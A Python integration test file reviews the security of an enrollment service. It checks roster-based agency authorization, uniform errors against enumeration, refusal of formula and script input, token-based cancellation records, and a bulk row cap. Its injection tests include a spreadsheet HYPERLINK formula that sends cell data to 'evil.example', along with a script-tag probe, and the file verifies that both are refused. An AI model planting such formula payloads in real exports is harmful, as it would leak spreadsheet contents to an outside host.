"""Security review of the enrollment service (issue 17), each item as the attack it stops,
through the real services: who may enrol an ASN and who says their agency (the roster since
issue 19), formula injection into
exports, who is recorded as cancelling, the bulk row cap, and the removed RPC surface."""
from __future__ import annotations

import json
import uuid
from dataclasses import replace

import pytest
from nameko.exceptions import MethodNotFound, RemoteError, UnknownService
from nameko.standalone.rpc import ServiceRpcProxy

from deploy.processes import free_port
from services.enrollment.service import EnrollmentService
from tests.integration.enrollment.factories import participant, programme
from tests.security.conftest import ADMIN, OTHER, OWN, nip
from tests.support import auth_headers

OWN_OPERATOR = auth_headers("operator", agency=OWN)
OTHER_OPERATOR = auth_headers("operator", agency=OTHER)


def _programme(platform, **overrides) -> str:
    """A fresh published programme (enrolments of one test do not meet another's)."""
    code = f"REV-{uuid.uuid4().hex[:6].upper()}"
    for path, body in (("/programmes", programme(code, capacity=100, **overrides)),
                       (f"/programmes/{code}/publish", None)):
        response = platform.call("enrollment", "POST", path, headers=ADMIN, json=body)
        assert response.status_code in (200, 201), response.text
    return code


def _enrol(platform, code: str, body: dict, headers: dict):
    return platform.call("enrollment", "POST", f"/programmes/{code}/enrolments", headers=headers, json=body)


def _bulk(platform, code: str, text: str, headers: dict, what: str = "enrolments"):
    response = platform.call("enrollment", "POST", f"/programmes/{code}/{what}/bulk",
                             headers={**headers, "Content-Type": "text/csv"}, data=text.encode())
    return response


def _rows(response) -> tuple[list[dict], dict]:
    assert response.status_code == 200, response.text
    lines = [json.loads(line) for line in response.text.splitlines() if line]
    return lines[:-1], lines[-1]["summary"]


def _agency_of(platform, person_nip: str) -> set[str]:
    listed = platform.call("enrollment", "GET", "/enrolments", headers=ADMIN, params={"nip": person_nip}).json()
    return {e["participant"]["agency"] for e in listed["items"]}


# -- 1. the first writer no longer claims an ASN's agency: the roster gives it (issues 17, 19) -------------
def _roster(platform, *people: dict) -> None:
    text = "nip,nama,kode_opd\n" + "".join(f"{p['nip']},{p['name']},{p['agency']}\n" for p in people)
    rows, summary = _rows(platform.call("enrollment", "POST", "/roster/import", data=text.encode(),
                                        headers={**ADMIN, "Content-Type": "text/csv"}))
    assert summary["rejected"] == 0, rows


def test_an_operator_cannot_claim_an_asn_not_on_the_roster_for_its_agency(platform):
    code, later = _programme(platform), _programme(platform)
    stranger = participant(701, OWN)  # really of DISKOMINFO, not on the roster yet
    claimed = _enrol(platform, code, {**stranger, "agency": OTHER}, OTHER_OPERATOR)
    assert claimed.status_code == 403, claimed.text
    assert "tidak ada di daftar ASN aktif OPD DINKES" in claimed.json()["message"]
    assert "admin BKPSDM" in claimed.json()["message"]
    # nor the operator of the ASN's real agency: its word is not the roster
    assert _enrol(platform, code, stranger, OWN_OPERATOR).status_code == 403
    assert _agency_of(platform, stranger["nip"]) == set()

    # an admin's enrolment of someone not on the roster does not put them on it
    unlisted = _enrol(platform, code, stranger, ADMIN)
    assert unlisted.status_code == 201 and unlisted.json()["participant"]["listed"] is False
    assert _enrol(platform, later, {"nip": stranger["nip"]}, OWN_OPERATOR).status_code == 403
    # the roster does: then the real agency's operator enrols them (by NIP alone), the other one still cannot
    _roster(platform, stranger)
    assert _enrol(platform, later, {"nip": stranger["nip"]}, OWN_OPERATOR).status_code == 201
    assert _enrol(platform, later, {"nip": stranger["nip"], "agency": OTHER}, OTHER_OPERATOR).status_code == 403


def test_an_unknown_nip_and_another_agencys_asn_get_the_same_answer(platform):
    code = _programme(platform)
    attempts = [
        {"nip": nip(702), "name": "Orang Baru", "agency": OWN},  # never registered
        {"nip": nip(703)},  # never registered, no name: not "name is required" (that told it apart)
        {"nip": platform.other_nip, "name": "Peserta Dinkes", "agency": OWN},  # DINKES's, claimed
        {"nip": platform.other_nip},  # DINKES's, by NIP alone
    ]
    answers = [_enrol(platform, code, body, OWN_OPERATOR) for body in attempts]
    assert [a.status_code for a in answers] == [403] * 4, [a.text for a in answers]
    assert len({a.text for a in answers}) == 1, [a.text for a in answers]
    assert answers[0].json()["field"] == "nip"
    assert _agency_of(platform, platform.other_nip) == {OTHER}


def test_an_operators_data_for_its_own_asn_does_not_move_them_to_another_agency(platform):
    code = _programme(platform)
    moved = _enrol(platform, code, {"nip": platform.own_nip, "agency": OTHER}, OWN_OPERATOR)
    assert moved.status_code == 403 and moved.json()["field"] == "agency"
    renamed = _enrol(platform, code, {"nip": platform.own_nip, "position": "Pranata Komputer Ahli Muda"},
                     OWN_OPERATOR)
    assert renamed.status_code == 201 and renamed.json()["participant"]["agency"] == OWN
    # the roster's jabatan, not the request's
    assert renamed.json()["participant"]["position"] == "Analis Kebijakan"
    assert _agency_of(platform, platform.own_nip) == {OWN}


def test_an_operators_bulk_upload_enrols_only_asn_on_its_agencys_roster_row_by_row(platform):
    code = _programme(platform)
    text = ("nip,name,agency\n"
            f"{platform.own_nip},,\n"  # on DISKOMINFO's roster
            f"{nip(711)},Orang Baru,{OWN}\n"  # on no roster
            f"{platform.other_nip},,\n"  # DINKES's
            f"{platform.other_nip},Diambil,{OWN}\n")  # DINKES's, claimed
    rows, summary = _rows(_bulk(platform, code, text, OWN_OPERATOR))
    assert [r["accepted"] for r in rows] == [True, False, False, False], rows
    assert len({(r["field"], r["reason"]) for r in rows[1:]}) == 1 and rows[1]["field"] == "nip"
    assert "admin BKPSDM" in rows[1]["reason"]
    assert (summary["accepted"], summary["rejected"]) == (1, 3)
    assert _agency_of(platform, nip(711)) == set() and _agency_of(platform, platform.other_nip) == {OTHER}
    # an admin's upload enrols someone on no roster with the agency it gives, as unlisted (ENROLLMENT_UNLISTED)
    rows, _ = _rows(_bulk(platform, code, f"nip,name,agency\n{nip(711)},Orang Baru,{OWN}\n", ADMIN))
    assert rows[0]["accepted"] and _agency_of(platform, nip(711)) == {OWN}


def test_an_operators_bulk_completion_answers_another_agencys_participant_as_not_enrolled(platform):
    """No enumeration through completions: a DINKES participant of the programme and an NIP
    nobody enrolled get the same row answer in a DISKOMINFO operator's upload."""
    text = f"nip,score\n{platform.other_nip},90\n{nip(712)},90\n"
    response = platform.call("enrollment", "POST", f"/programmes/{platform.finished}/completions/bulk",
                             headers={**OWN_OPERATOR, "Content-Type": "text/csv"}, data=text.encode())
    rows, _ = _rows(response)
    assert [r["accepted"] for r in rows] == [False, False]
    assert {(r["field"], r["reason"]) for r in rows} == {("nip", f"not enrolled in {platform.finished}")}


# -- 2. formula injection at input --------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", " =1+1"]


@pytest.mark.parametrize("field", ["name", "position"])
@pytest.mark.parametrize("value", FORMULAS)
def test_a_participant_field_beginning_like_a_formula_is_refused_naming_the_field(platform, field, value):
    body = {**participant(720, OWN), field: value}
    response = _enrol(platform, platform.programme, body, ADMIN)
    assert response.status_code == 422, response.text
    [message] = response.json()["errors"][field]
    assert "formula" in message


def test_a_formula_in_a_csv_row_is_rejected_with_the_column_and_not_stored(platform):
    code = _programme(platform)
    text = ("nip,nama,opd,jabatan\n"
            f'{nip(721)},"=HYPERLINK(""http://evil.example"",""klik"")",{OWN},Analis\n'
            f"{nip(722)},Siti Aminah,{OWN},@SUM(A1)\n"
            f"{nip(723)},{'A' * 201},{OWN},Analis\n"
            f"{nip(724)},\"Dr. Siti Aminah, S.Kom., M.T.\",{OWN},Analis\n")
    rows, _ = _rows(_bulk(platform, code, text, ADMIN))
    assert [(r["accepted"], r.get("field")) for r in rows] == [
        (False, "name"), (False, "position"), (False, "name"), (True, None)], rows
    assert "formula" in rows[0]["reason"] and "200 characters" in rows[2]["reason"]
    assert _agency_of(platform, nip(721)) == set()


@pytest.mark.parametrize("i, name", enumerate(["Dr. Siti Aminah, S.Kom., M.T.", "Nur'aini", "Ahmad Syafi\u2019i",
                                                "Siti Nur-Halimah", "Yusuf Piliang, S.E.", "Hj. Rosmaini"]))
def test_names_of_real_people_keep_working(platform, i, name):
    response = _enrol(platform, platform.programme, {**participant(730 + i, OWN), "name": name}, ADMIN)
    assert response.status_code in (200, 201), response.text
    assert response.json()["participant"]["name"] == name


@pytest.mark.parametrize("body, field", [
    ({"name": "Siti <script>alert(1)</script>"}, "name"),
    ({"name": "Siti\nAminah"}, "name"),
    ({"name": "A" * 201}, "name"),
    ({"position": "P" * 201}, "position"),
])
def test_other_odd_or_overlong_participant_text_is_refused(platform, body, field):
    response = _enrol(platform, platform.programme, {**participant(740, OWN), **body}, ADMIN)
    assert response.status_code == 422 and field in response.json()["errors"], response.text


@pytest.mark.parametrize("field, value", [("title", "=1+1 Pelatihan"), ("location", "@Aula"),
                                          ("speakers", ["-Narasumber"]), ("certification_line", "+PBJ")])
def test_programme_text_that_reaches_exports_is_checked_too(platform, field, value):
    body = programme(f"REV-{uuid.uuid4().hex[:6].upper()}", grants_certificate=True, **{field: value})
    response = platform.call("enrollment", "POST", "/programmes", headers=ADMIN, json=body)
    assert response.status_code == 422 and field in response.json()["errors"], response.text


# -- 3. who cancelled comes from the token ------------------------------------------------------------
def test_staff_cannot_record_a_cancellation_as_the_participants(platform):
    code = _programme(platform)
    people = [participant(750 + i, OWN) for i in range(3)]
    ids = [_enrol(platform, code, p, ADMIN).json()["id"] for p in people]

    by_operator = platform.call("enrollment", "POST", f"/enrolments/{ids[0]}/cancel", headers=OWN_OPERATOR,
                                json={"cancelled_by": "participant"})
    by_admin = platform.call("enrollment", "POST", f"/enrolments/{ids[1]}/cancel", headers=ADMIN,
                             json={"cancelled_by": "participant", "reason": "Mengundurkan diri"})
    by_asn = platform.call("enrollment", "POST", f"/enrolments/{ids[2]}/cancel", json={"cancelled_by": "operator"},
                           headers=auth_headers("asn", nip=people[2]["nip"]))

    assert [r.status_code for r in (by_operator, by_admin, by_asn)] == [200] * 3
    assert (by_operator.json()["cancelled_by"], by_operator.json()["cancel_reason"]) == (
        "operator", "Dibatalkan oleh operator")
    assert by_admin.json()["cancelled_by"] == "operator"
    assert (by_asn.json()["cancelled_by"], by_asn.json()["cancel_reason"]) == ("participant", "Dibatalkan oleh peserta")


# -- 4. the bulk row cap -----------------------------------------------------------------------------
def test_a_bulk_upload_over_the_row_cap_is_refused_before_any_row_is_written(platform, monkeypatch,
                                                                           container_factory):
    # The configuration is read when a container starts: a replica of its own with a cap of 3,
    # on the platform's database.
    monkeypatch.setenv("ENROLLMENT_BULK_MAX_ROWS", "3")
    settings = replace(platform.settings["enrollment"], http_address=f"127.0.0.1:{free_port()}")
    container_factory(EnrollmentService, settings.nameko_config()).start()
    platform = replace(platform, urls={**platform.urls, "enrollment": f"http://{settings.http_address}"})
    code = _programme(platform)
    header = "nip,name,agency\n"
    over = header + "".join(f"{nip(760 + i)},Peserta {i},{OWN}\n" for i in range(4))
    refused = _bulk(platform, code, over, ADMIN)
    assert refused.status_code == 413, refused.text
    assert (refused.json()["field"], refused.json()["max_rows"]) == ("file", 3)
    assert "at most 3 rows" in refused.json()["message"]
    assert _agency_of(platform, nip(760)) == set()
    completions = _bulk(platform, code, "nip,score\n" + "".join(f"{nip(760 + i)},80\n" for i in range(4)), ADMIN,
                        what="completions")
    assert completions.status_code == 413, completions.text
    # blank lines do not count; exactly the cap is accepted
    rows, summary = _rows(_bulk(platform, code, header + "\n".join(over.splitlines()[1:4]) + "\n\n\n", ADMIN))
    assert summary["accepted"] == 3


# -- 5. no RPC surface without a principal ------------------------------------------------------------
ENROLMENT_COMMANDS = ("create_programme", "update_programme", "publish_programme", "cancel_programme",
                      "get_programme", "list_programmes", "enrol", "cancel_enrolment", "record_attendance",
                      "complete", "get_enrolment", "list_enrolments")


def test_no_enrollment_command_answers_over_rpc_where_no_token_is_asked(platform):
    config = {"AMQP_URI": platform.settings["enrollment"].amqp_uri}
    with ServiceRpcProxy("enrollment", config, timeout=15) as rpc:
        with pytest.raises((MethodNotFound, RemoteError, UnknownService)) as err:
            rpc.enrol(platform.programme, {"nip": nip(770), "name": "Lewat RPC", "agency": OTHER})
    if isinstance(err.value, RemoteError):
        assert err.value.exc_type == "MethodNotFound", err.value
    assert _agency_of(platform, nip(770)) == set()
    assert not [name for name in ENROLMENT_COMMANDS if hasattr(EnrollmentService, name)]
